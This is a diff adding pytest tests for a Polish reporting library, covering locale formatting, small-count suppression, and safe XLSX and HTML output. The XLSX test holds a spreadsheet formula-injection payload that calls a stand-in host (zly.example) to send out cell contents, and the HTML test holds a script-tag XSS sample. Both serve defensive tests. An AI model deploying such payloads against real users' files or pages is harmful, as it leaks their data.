@@ -1,0 +1,87 @@
+"""Report building blocks: Polish formats, disclosure control, XLSX without formula injection,
+HTML escaping. Pure functions on small hand-made inputs (no warehouse, no browser)."""
+
+from datetime import date
+from decimal import Decimal
+
+import openpyxl
+import pytest
+
+from reports.formatting import Suppressed, fmt, money, number, percent, pl_date, quarter_label
+from reports.model import Column, Fact, Report, Section, Table
+from reports.suppression import suppress_rows
+
+NBSP = "\u00a0"
+
+
+def test_polish_number_money_date_and_percent_formats():
+    assert money(Decimal("1234567.89")) == f"1{NBSP}234{NBSP}567,89{NBSP}zł"
+    assert money(Decimal("2489370.50")) == f"2{NBSP}489{NBSP}370,50{NBSP}zł"
+    assert money(Decimal("0")) == f"0,00{NBSP}zł"
+    assert number(Decimal("1234.5")) == f"1{NBSP}234,50"
+    assert percent(Decimal("0.7")) == "70,0%"
+    assert percent(Decimal("0.35")) == "35,0%"
+    assert percent(Decimal("1.2345")) == "123,5%"
+    assert pl_date(date(2022, 3, 31)) == "31.03.2022"
+    assert quarter_label("2022Q1") == "I kwartał 2022" and quarter_label("2021Q4") == "IV kwartał 2021"
+    assert fmt(Decimal("1200"), "int") == f"1{NBSP}200" and fmt(Decimal("12.5"), "int") == "12,5"
+    assert fmt(None, "money") == "—" and fmt(True, "flag") == "tak"
+    assert fmt(Suppressed(5), "int") == "<5" and fmt(Suppressed(5, primary=False), "int") == "•"
+
+
+def test_suppression_hides_small_counts_and_what_would_reveal_them():
+    # One row: total = women + men. 3 women is small; men (9) would reveal them from the total.
+    row = {"cumulative_total": Decimal(12), "cumulative_women": Decimal(3), "cumulative_men": Decimal(9)}
+    hidden = suppress_rows([row], ["cumulative_total", "cumulative_women", "cumulative_men"], 5,
+                           additive_groups=[("cumulative_total", ("cumulative_women", "cumulative_men"))])
+    assert row == {"cumulative_total": Decimal(12), "cumulative_women": Suppressed(5, True),
+                   "cumulative_men": Suppressed(5, False)}
+    assert hidden == 2
+    # Zero and counts at the threshold stay visible.
+    row = {"cumulative_total": Decimal(5), "cumulative_women": Decimal(5), "cumulative_men": Decimal(0)}
+    assert suppress_rows([row], list(row), 5, [("cumulative_total", ("cumulative_women", "cumulative_men"))]) == 0
+    # Units × category with a published column total: one small unit forces a second (the smallest other).
+    units = [{"u": "a", "x": Decimal(2)}, {"u": "b", "x": Decimal(40)}, {"u": "c", "x": Decimal(7)}]
+    total = {"u": "Razem", "x": Decimal(49)}
+    suppress_rows(units, ["x"], 5, total_row=total)
+    assert [r["x"] for r in units] == [Suppressed(5, True), Decimal(40), Suppressed(5, False)]
+    assert total["x"] == Decimal(49)
+    # The threshold is a setting.
+    units = [{"x": Decimal(7)}, {"x": Decimal(12)}]
+    suppress_rows(units, ["x"], 10)
+    assert units[0]["x"] == Suppressed(10) and fmt(units[0]["x"], "int") == "<10" and units[1]["x"] == Decimal(12)
+
+
+def _tiny_report(text: str) -> Report:
+    table = Table("t", "Tabela", [Column("name", "Nazwa"), Column("amount", "Kwota", "money"),
+                                  Column("n", "Liczba", "int"), Column("day", "Data", "date")],
+                  [{"name": text, "amount": Decimal("1234567.89"), "n": Suppressed(5), "day": date(2022, 3, 31)},
+                   {"name": "+48 600", "amount": Decimal("-5.00"), "n": Decimal(7), "day": None}])
+    section = Section("s", "Sekcja", "Sekcja", facts=[Fact("Opis", text)], tables=[table])
+    return Report("unit", "u", "Raport", "2022Q1", date(2021, 1, 1), date(2023, 5, 31),
+                  __import__("datetime").datetime(2022, 4, 20, 8, 0), [section])
+
+
+def test_xlsx_cells_are_typed_and_source_text_is_never_a_formula(tmp_path):
+    from reports.xlsx import write_xlsx
+
+    evil = '=HYPERLINK("http://zly.example/?x="&A1;"kliknij")'
+    path = write_xlsx(_tiny_report(evil), tmp_path / "a.xlsx")
+    ws = openpyxl.load_workbook(path)["Sekcja"]
+    cells = {(c.row, c.column): c for row in ws.iter_rows() for c in row if c.value is not None}
+    formula_like = [c for c in cells.values() if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+    assert formula_like and all(c.data_type == "s" for c in formula_like)
+    assert any(c.value == evil and c.data_type == "s" for c in cells.values())
+    money_cell = next(c for c in cells.values() if c.value == pytest.approx(1234567.89))
+    assert money_cell.data_type == "n" and "#,##0.00" in money_cell.number_format
+    assert any(c.value == "<5" and c.data_type == "s" for c in cells.values())
+    assert any(getattr(c.value, "year", None) == 2022 and c.number_format == "dd.mm.yyyy" for c in cells.values())
+
+
+def test_html_escapes_source_text():
+    from reports.html import render_html
+
+    html = render_html(_tiny_report("<script>alert('x')</script> & Co"))
+    assert "<script>alert" not in html
+    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; Co" in html
+    assert f"1{NBSP}234{NBSP}567,89{NBSP}zł" in html and "31.03.2022" in html and ">&lt;5<" in html
